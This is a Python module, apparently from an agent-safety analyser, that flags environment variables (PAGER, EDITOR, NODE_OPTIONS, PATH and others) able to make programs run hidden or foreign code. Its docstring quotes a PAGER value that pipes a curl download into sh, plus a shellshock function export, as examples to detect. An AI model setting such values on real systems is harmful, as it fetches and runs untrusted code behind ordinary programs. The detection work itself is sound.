"""Environment variables whose value a program runs as shell code: PAGER, EDITOR, GIT_SSH_COMMAND …

`PAGER='sh -c "curl x | sh"' git log` runs that code when git pages. A value that is just a program (`less -R`,
`vim`, `code --wait`) is that program, which is ordinary; any other value is followed (analysed as shell code)
and is also an explicit unknown, because when and how the program runs it is not visible here. A bash function
exported through the environment (`BASH_FUNC_x%%=() {…}`, shellshock's `X='() { :;}; cmd'`) and a preloaded
library are unknown too.
"""

from __future__ import annotations

import os
import re
from typing import TYPE_CHECKING

from agentguard.analysis.watch import ALWAYS_UNKNOWN, CODE_VARIABLES, SEARCH_PATHS
from agentguard.models import Effect

if TYPE_CHECKING:
    from agentguard.analysis.shell import Walker
    from agentguard.analysis.types import Invocation

PLAIN_PROGRAMS = frozenset(
    """less more most cat bat batcat delta diff-so-fancy vim vi nvim nano emacs emacsclient code subl micro true
    false ssh ed ex kak hx helix gedit kate mate zed""".split()
)


def plain(value: str) -> bool:
    """`less -R`, `code --wait`, `/usr/bin/vim`: a program and its options, nothing else."""
    words = value.split()
    if not words or re.search(r"[;&|`$<>(){}\\'\"]", value):
        return not words
    return os.path.basename(words[0]) in PLAIN_PROGRAMS and all(w.startswith("-") for w in words[1:])


# A value that is itself a command running inline code: `B='sh -c …'`, `H='python3 -c …'`. Whatever variable
# holds it, the program it is given to may well run it.
INLINE_CODE = re.compile(
    r"(?:^|[\s;|&(])(?:\S*/)?(?:(?:ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby|php)\s+-[A-Za-z]*[ce]\b"
)


# Search paths: a temp dir first in one makes `python3` or `import json` whatever was dropped there.
TEMP_DIRS = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm|/private/tmp)(?:/|$)")
# Interpreter options in the environment that load code before the program's own.
PRELOAD_OPTIONS = {"NODE_OPTIONS": re.compile(r"(?:^|\s)(?:-r|--require|--import|--loader)\b"),
                   "PERL5OPT": re.compile(r"-[A-Za-z]*[MmI]"), "RUBYOPT": re.compile(r"-[A-Za-z]*r"),
                   "PYTHONSTARTUP": re.compile(r"."), "PYTHONINSPECT": re.compile(r"^$^")}  # fmt: skip


def _loads_foreign_code(name: str, value: str) -> bool:
    if name in SEARCH_PATHS:
        return any(TEMP_DIRS.match(part) for part in value.split(":")[:1]) or value.startswith(".:")
    pattern = PRELOAD_OPTIONS.get(name)
    return pattern is not None and bool(pattern.search(value))


def effects_of(walker: Walker, name: str, value: str | None, inv: Invocation) -> list[Effect]:
    """What setting `name` to `value` makes the next program run (nothing, for ordinary variables)."""
    if value and _loads_foreign_code(name, value):
        return [Effect.unknown(f"{name}={value} makes programs load code from there", inv.source)]
    if name not in CODE_VARIABLES and value and INLINE_CODE.search(value):
        return [Effect.unknown(f"{name} holds a command that runs inline code: {value}", inv.source)]
    if (value is not None and value.lstrip().startswith("() {")) or name.startswith("BASH_FUNC_"):
        return [Effect.unknown(f"{name} exports a bash function that runs when bash starts", inv.source)]
    if name in ALWAYS_UNKNOWN and value:
        return [Effect.unknown(f"{name} changes what every program it reaches loads or does", inv.source)]
    if name not in CODE_VARIABLES or value is None or plain(value):
        return (
            []
            if value is not None or name not in CODE_VARIABLES
            else [Effect.unknown(f"{name} is set to a value not known before it runs", inv.source)]
        )
    return [Effect.unknown(f"{name} makes programs run shell code: {value}", inv.source),
            *walker.shell(value, inv)]  # fmt: skip


def written_value(name: str, source: str) -> str | None:
    """The value of `name=…` as written in `source`, up to its first expansion (`/tmp/x:` of `/tmp/x:$PATH`)."""
    match = re.search(rf"\b{re.escape(name)}=[\"']?([^\s\"'$`]*)", source)
    return match.group(1) if match and match.group(1) else None
